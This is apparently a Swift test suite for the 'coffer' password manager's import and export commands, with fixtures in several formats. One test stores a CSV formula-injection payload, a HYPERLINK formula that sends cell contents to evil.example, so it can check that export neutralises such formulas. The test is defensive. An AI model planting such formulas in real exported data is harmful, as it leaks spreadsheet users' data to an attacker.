import CofferTestSupport
import Foundation
import Testing

#if canImport(Glibc)
import Glibc
#endif

/// `coffer import --from FORMAT` and `coffer export --format … --plaintext`
/// driven as a user would (docs/import-export.md).
@Suite struct InterchangeCLITests {
    static let fixtures = URL(fileURLWithPath: #filePath).deletingLastPathComponent().deletingLastPathComponent()
        .appendingPathComponent("Fixtures/interop")
    static func fixture(_ name: String) -> String { fixtures.appendingPathComponent(name).path }

    func write(_ home: TestHome, _ name: String, _ text: String) -> String {
        let p = home.path(name)
        FileManager.default.createFile(atPath: p, contents: Data(text.utf8))
        return p
    }

    func get(_ home: TestHome, _ name: String, _ field: String) -> String? {
        let r = home.unlocked(["get", name, "--field", field])
        return r.status == 0 ? r.out : nil
    }

    func names(_ home: TestHome) -> [String] {
        home.unlocked(["ls"]).out.split(separator: "\n").map { String($0.split(separator: " ").first ?? "") }
    }

    @Test func importingTheSameFileTwiceChangesNothing() throws {
        let home = TestHome()
        home.initVault()
        let first = home.unlocked(["import", "--from", "bitwarden-json", Self.fixture("bitwarden.json"), "--json"])
        #expect(first.status == 0, "\(first)")
        SchemaValidation.expectValid(first.stdout, schema: "import-report.schema.json")
        #expect(first.stderr.contains("still holds your secrets in plaintext"))
        #expect(first.stdout.contains("linked field 'user link'"))
        #expect(get(home, "Work/GitHub", "password") == "gh-new-pass")
        #expect(get(home, "Work/GitHub", "url2") == "https://api.github.com")
        #expect(get(home, "Wi-Fi codes ☕", "notes") == "Küche: 1234\nBüro: 5678\n")
        let history = home.unlocked(["history", "Work/GitHub", "--json", "--show-secrets"])
        #expect(history.stdout.contains("gh-old-1") && history.stdout.contains("gh-old-2"))
        let listed = home.unlocked(["ls", "--json"]).stdout
        let before = home.vaultBytes()
        let second = home.unlocked(["import", "--from", "bitwarden-json", Self.fixture("bitwarden.json"), "--json"])
        #expect(second.status == 0, "\(second)")
        let report = try JSONSerialization.jsonObject(with: Data(second.stdout.utf8)) as? [String: Any]
        #expect(report?["added"] as? Int == 0 && report?["identical"] as? Int == 6)
        #expect(home.unlocked(["ls", "--json"]).stdout == listed)
        #expect(home.vaultBytes() == before)
    }

    @Test func takenNamesKeepBothSkipOrOverwrite() {
        let home = TestHome()
        home.initVault()
        #expect(home.unlocked(["add", "GitHub", "--type", "login", "--field", "username=me"], stdin: "mine").status == 0)
        let csv = Self.fixture("chrome.csv")
        let skip = home.unlocked(["import", "--from", "csv", csv, "--on-conflict", "skip"])
        #expect(skip.status == 0 && skip.stderr.contains("skipped GitHub"), "\(skip)")
        #expect(get(home, "GitHub", "password") == "mine" && get(home, "GitHub (2)", "password") == nil)
        let both = home.unlocked(["import", "--from", "csv", csv])
        #expect(both.status == 0 && both.stderr.contains("as 'GitHub (2)'"), "\(both)")
        #expect(get(home, "GitHub", "password") == "mine" && get(home, "GitHub (2)", "password") == "p,ss\"word")
        let again = home.unlocked(["import", "--from", "csv", csv, "--json"])
        #expect(again.stdout.contains("\"added\" : 0"), "\(again)")
        let over = home.unlocked(["import", "--from", "csv", csv, "--on-conflict", "overwrite"])
        #expect(over.status == 0 && over.stderr.contains("overwrote GitHub"), "\(over)")
        #expect(get(home, "GitHub", "password") == "p,ss\"word")
        #expect(home.unlocked(["history", "GitHub", "--json", "--show-secrets"]).stdout.contains("\"mine\""))
        #expect(!names(home).contains("GitHub (3)"))
        let verified = home.unlocked(["verify"])
        #expect(verified.status == 0, "\(verified)")
    }

    @Test func dryRunNamesWhatWouldHappenAndChangesNothing() {
        let home = TestHome()
        home.initVault()
        #expect(home.unlocked(["add", "imp/GitHub", "--type", "login"], stdin: "x").status == 0)
        let before = home.vaultBytes()
        let r = home.unlocked(["import", "--from", "csv", Self.fixture("chrome.csv"), "--prefix", "imp", "--dry-run"])
        #expect(r.status == 0, "\(r)")
        #expect(r.stdout.contains("would add imp/GitHub (2)") && r.stdout.contains("would add imp/ünï.example"))
        #expect(!r.stdout.contains("p,ss"))
        #expect(r.stderr.contains("nothing was changed"))
        #expect(home.vaultBytes() == before)
    }

    @Test(arguments: [
        ("csv", "bad.csv", "name,url,username,password\nok,https://a,u,p\nbroken,https://b\n", "bad.csv: line 3: 2 columns, but the header has 4"),
        ("csv", "q.csv", "name,url,username,password\n\"open,https://a,u,p\n", "q.csv: line 2: a quoted field is never closed"),
        (
            "bitwarden-json", "bw.json", #"{"items":[{"type":1,"name":"ok","login":{}},{"type":7,"name":"weird"}]}"#,
            "bw.json: items[1] ('weird'): unknown item type 7"
        ),
        ("bitwarden-json", "enc.json", #"{"encrypted":true,"data":"x"}"#, "password-protected"),
        (
            "keepass-xml", "k.xml", "<KeePassFile><Root><Group><Name>R</Name><Entry><String><Key>Title</Key><Value>a</Value></String></Entry>\n<Entry></Group>",
            "k.xml: line 2: malformed XML"
        ),
        ("dotenv", "x.env", "GOOD=1\n9BAD=2\n", "x.env:2:"),
        (
            "coffer-json", "c.json",
            #"{"format":"coffer-json","version":1,"exportedAt":"x","items":[{"name":"a","type":"login","fields":[]},{"name":"b","type":"nope","fields":[]}]}"#,
            "c.json: items[1] ('b'): unknown type 'nope'"
        ),
        ("1password-1pux", "x.1pux", "not a zip", "x.1pux: not a zip archive"),
    ])
    func badInputIsRefusedWhole(format: String, file: String, content: String, message: String) {
        let home = TestHome()
        home.initVault()
        #expect(home.unlocked(["add", "keep", "--type", "api-key"], stdin: "k").status == 0)
        let path = write(home, file, content)
        let before = home.vaultBytes()
        let r = home.unlocked(["import", "--from", format, path])
        #expect(r.status == 65, "\(r)")
        let lines = r.stderr.split(separator: "\n")
        #expect(lines.first?.hasPrefix("coffer: error: ") == true && lines.first?.contains(message) == true, "\(r.stderr)")
        #expect(lines.count <= 2)
        #expect(home.vaultBytes() == before)
        #expect(names(home) == ["keep"])
    }

    /// 1,000 entries or more into an empty vault take the bulk path (indexes
    /// rebuilt at the end): names must resolve afterwards as usual.
    @Test func bulkLoadIntoAnEmptyVault() throws {
        let home = TestHome()
        home.initVault()
        var csv = "name,url,username,password\n"
        for i in 0..<1200 { csv += "site\(i),https://s\(i).example,user\(i),pw\(i)\n" }
        let path = write(home, "many.csv", csv)
        let first = home.unlocked(["import", "--from", "csv", path])
        #expect(first.status == 0 && first.stderr.contains("1200 added"), "\(first)")
        #expect(get(home, "site777", "password") == "pw777")
        let again = home.unlocked(["import", "--from", "csv", path])
        #expect(again.stderr.contains("0 added") && again.stderr.contains("1200 identical"), "\(again)")
        #expect(home.unlocked(["add", "site5", "--type", "api-key"], stdin: "x").status == 73)
        let verified = home.unlocked(["verify"])
        #expect(verified.status == 0, "\(verified)")
    }

    @Test func usageErrors() {
        let home = TestHome()
        home.initVault()
        #expect(home.unlocked(["import", "--from", "nope", "x"]).status == 64)
        #expect(home.unlocked(["import", "--from", "csv"]).status == 64)
        #expect(home.unlocked(["import", "--from", "csv", "a", "--on-conflict", "maybe"]).status == 64)
        #expect(home.unlocked(["import", "--from", "csv", "missing.csv"]).status == 66)
        #expect(home.unlocked(["import", "--prefix", "p", "bundle"]).status == 64)
        #expect(home.unlocked(["import", "--from", "bitwarden-json", home.root.path]).status == 64)
        #expect(home.unlocked(["import", "--from", "csv", "a.csv", "--source-passphrase-file", "x"]).status == 64)
        let db = write(home, "db.kdbx", "not a database")
        let noTerminal = home.unlocked(["import", "--from", "kdbx", db])
        #expect(noTerminal.status == 77 && noTerminal.stderr.contains("--source-passphrase-fd"), "\(noTerminal)")
    }

    @Test func onePUXArchive() throws {
        let home = TestHome()
        home.initVault()
        let zip = home.path("export.1pux")
        let py = Spawn.run(
            "/usr/bin/env",
            [
                "python3", "-c",
                "import sys, zipfile; z = zipfile.ZipFile(sys.argv[1], 'w'); z.write(sys.argv[2], 'export.data'); z.writestr('export.attributes', '{}'); z.close()",
                zip, Self.fixture("1pux-export.data"),
            ], stdin: nil, fd3: nil, environment: home.environment, workDir: home.root.path)
        try #require(py.status == 0, "\(py)")
        let r = home.unlocked(["import", "--from", "1password-1pux", zip])
        #expect(r.status == 0, "\(r)")
        #expect(r.stderr.contains("'Private/Passport scan': document 'passport.pdf' was not imported"))
        #expect(get(home, "Private/Example Login", "totp") == "otpauth://totp/Example:zoe?secret=JBSWY3DPEHPK3PXP")
        #expect(get(home, "Private/OpenAI", "credential") == "sk-test-123")
        let noData = home.path("empty.1pux")
        _ = Spawn.run(
            "/usr/bin/env", ["python3", "-c", "import sys, zipfile; z = zipfile.ZipFile(sys.argv[1], 'w'); z.writestr('x', 'y'); z.close()", noData],
            stdin: nil, fd3: nil, environment: home.environment, workDir: home.root.path)
        let bad = home.unlocked(["import", "--from", "1password-1pux", noData])
        #expect(bad.status == 65 && bad.stderr.contains("no export.data"), "\(bad)")
    }

    @Test func dotenvGivesTheSameVariablesBack() {
        let home = TestHome()
        home.initVault()
        let env = write(home, ".env", "API_KEY=sk-123\nexport DB_URL=\"postgres://u:p@h/db\"\nEMPTY=\n")
        let r = home.unlocked(["import", "--from", "dotenv", env, "--prefix", "myapp/dev"])
        #expect(r.status == 0, "\(r)")
        let out = home.unlocked(["env", "myapp/dev"])
        #expect(out.status == 0)
        #expect(Set(out.out.split(separator: "\n").map(String.init)) == ["API_KEY=sk-123", "DB_URL=postgres://u:p@h/db", "EMPTY="], "\(out)")
    }

    @Test func plaintextExportRules() throws {
        let home = TestHome()
        home.initVault()
        #expect(home.unlocked(["add", "a/key", "--type", "api-key", "--tag", "t1", "--expires", "2031-01-02"], stdin: "sk-1").status == 0)
        #expect(home.unlocked(["add", "local", "--type", "api-key", "--local-only"], stdin: "sk-local").status == 0)
        let out = home.path("export.json")
        let refused = home.unlocked(["export", "--format", "json", "--out", out])
        #expect(refused.status == 64 && refused.stderr.contains("--plaintext"), "\(refused)")
        #expect(!FileManager.default.fileExists(atPath: out))
        let r = home.unlocked(["export", "--format", "json", "--plaintext", "--out", out])
        #expect(r.status == 0, "\(r)")
        var st = stat()
        #expect(stat(out, &st) == 0 && st.st_mode & 0o777 == 0o600)
        let text = try String(contentsOfFile: out, encoding: .utf8)
        SchemaValidation.expectValid(text, schema: "coffer-export.schema.json")
        #expect(text.contains("sk-1") && !text.contains("sk-local"))
        #expect(r.stderr.contains("left out 1 local-only item") && r.stderr.contains("unencrypted"))
        let all = home.unlocked(["export", "--format", "json", "--plaintext", "--include-local-only", "--out", "-"])
        #expect(all.status == 0 && all.stdout.contains("sk-local"))
        #expect(home.unlocked(["export", "--format", "csv", "--plaintext", "--history", "--out", out]).status == 64)
        #expect(home.unlocked(["export", "--format", "yaml", "--plaintext", "--out", out]).status == 64)
        let csv = home.unlocked(["export", "--format", "csv", "--plaintext", "--out", "-"])
        #expect(csv.stdout.hasPrefix("name,type,tags,expires,username,password,url,notes,totp"), "\(csv)")
        #expect(home.unlocked(["export", "--format", "json", "--plaintext", "--out", home.root.path]).status == 73)
    }

    /// Issue 24 item 7: cells a spreadsheet would run as a formula are
    /// written with a leading `'` (OWASP's rule), said on stderr by count;
    /// `--csv-formulas-as-is` writes them unchanged; Coffer's own CSV
    /// reader takes the quote off again.
    @Test func csvExportNeutralisesFormulas() throws {
        let home = TestHome()
        home.initVault()
        let formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")"
        #expect(
            home.unlocked(
                [
                    "add", "a/site", "--type", "login", "--field", "username=@admin", "--field", "url=https://a.example", "--field", "+cmd=+1", "--field",
                    "tabbed=\tx",
                ], stdin: formula + "\n"
            ).status == 0)
        #expect(home.unlocked(["add", "b/site", "--type", "login", "--field", "username=-bob", "--field", "notes='=quoted"], stdin: "plain\n").status == 0)
        let r = home.unlocked(["export", "--format", "csv", "--plaintext", "--out", "x.csv"])
        #expect(r.status == 0, "\(r)")
        let text = try String(contentsOfFile: home.path("x.csv"), encoding: .utf8)
        let rows = text.split(separator: "\r\n").map(String.init)
        // Header: the field name "+cmd" is a cell too.
        #expect(rows[0] == "name,type,tags,expires,username,password,url,notes,totp,'+cmd,tabbed", "\(text)")
        #expect(rows[1] == "a/site,login,,,'@admin,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\",https://a.example,,,'+1,'\tx", "\(text)")
        #expect(rows[2] == "b/site,login,,,'-bob,plain,,''=quoted,,,", "\(text)")
        let notes = r.stderr.split(separator: "\n").filter { $0.contains("formula") }
        #expect(notes.count == 1, "\(r)")
        #expect(
            r.stderr.contains(
                "coffer: 6 cells that a spreadsheet would run as formulas were written with a leading ' (--csv-formulas-as-is writes them unchanged)"), "\(r)")
        #expect(!r.stderr.contains("HYPERLINK") && !r.stderr.contains("@admin"))
        // Read back by Coffer: the values are the stored ones.
        let other = TestHome()
        other.initVault()
        let imp = other.unlocked(["import", "--from", "csv", home.path("x.csv")])
        #expect(imp.status == 0, "\(imp)")
        #expect(get(other, "a/site", "password") == formula)
        #expect(get(other, "a/site", "username") == "@admin")
        #expect(get(other, "a/site", "+cmd") == "+1")
        #expect(get(other, "a/site", "tabbed") == "\tx")
        #expect(get(other, "b/site", "username") == "-bob")
        #expect(get(other, "b/site", "notes") == "'=quoted")
        // The opt-out writes the cells as they are, and says nothing.
        let raw = home.unlocked(["export", "--format", "csv", "--plaintext", "--csv-formulas-as-is", "--out", "-"])
        #expect(raw.status == 0, "\(raw)")
        #expect(raw.stdout.contains(",@admin,\"=HYPERLINK(") && raw.stdout.contains(",-bob,"), "\(raw)")
        #expect(!raw.stderr.contains("formula"), "\(raw)")
        // The flag belongs to CSV.
        let json = home.unlocked(["export", "--format", "json", "--plaintext", "--csv-formulas-as-is", "--out", "-"])
        #expect(json.status == 64, "\(json)")
    }

    @Test func cofferJSONRoundTripIsLossless() throws {
        let home = TestHome()
        home.initVault()
        #expect(
            home.unlocked(
                ["add", "work/openai", "--type", "api-key", "--source", "openai", "--tag", "ai", "--tag", "prod", "--expires", "2030-12-31"], stdin: "sk-one"
            ).status == 0)
        #expect(home.unlocked(["edit", "work/openai", "--field", "key=sk-two"]).status == 0)
        #expect(home.unlocked(["edit", "work/openai", "--env-var", "key=OPENAI_API_KEY"]).status == 0)
        #expect(home.unlocked(["add", "notes/ünï", "--type", "note"], stdin: "line 1\nline 2\n").status == 0)
        #expect(home.unlocked(["add", "svc", "--type", "custom", "--field", "region=eu", "--field", "empty=", "--local-only"]).status == 0)
        let file = home.path("all.json")
        #expect(home.unlocked(["export", "--format", "json", "--plaintext", "--history", "--include-local-only", "--out", file]).status == 0)
        SchemaValidation.expectValid(try String(contentsOfFile: file, encoding: .utf8), schema: "coffer-export.schema.json")

        let other = TestHome()
        other.initVault()
        let r = other.unlocked(["import", "--from", "coffer-json", file])
        #expect(r.status == 0, "\(r)")
        let again = other.path("again.json")
        #expect(other.unlocked(["export", "--format", "json", "--plaintext", "--history", "--include-local-only", "--out", again]).status == 0)
        func items(_ p: String) throws -> [[String: Any]] {
            let o = try JSONSerialization.jsonObject(with: Data(contentsOf: URL(fileURLWithPath: p))) as! [String: Any]
            return (o["items"] as! [[String: Any]]).map { item in
                var i = item
                // Times of the current write differ; values must not.
                i["history"] = (item["history"] as? [[String: Any]])?.map { $0["fields"] as Any }
                return i
            }
        }
        let a = try items(file)
        let b = try items(again)
        #expect(NSArray(array: a).isEqual(to: b), "\(a)\n\(b)")
        #expect(other.unlocked(["history", "work/openai", "--json", "--show-secrets"]).stdout.contains("sk-one"))
        #expect(other.unlocked(["verify"]).status == 0)
        let second = other.unlocked(["import", "--from", "coffer-json", file, "--json"])
        #expect(second.stdout.contains("\"added\" : 0"), "\(second)")
    }
}
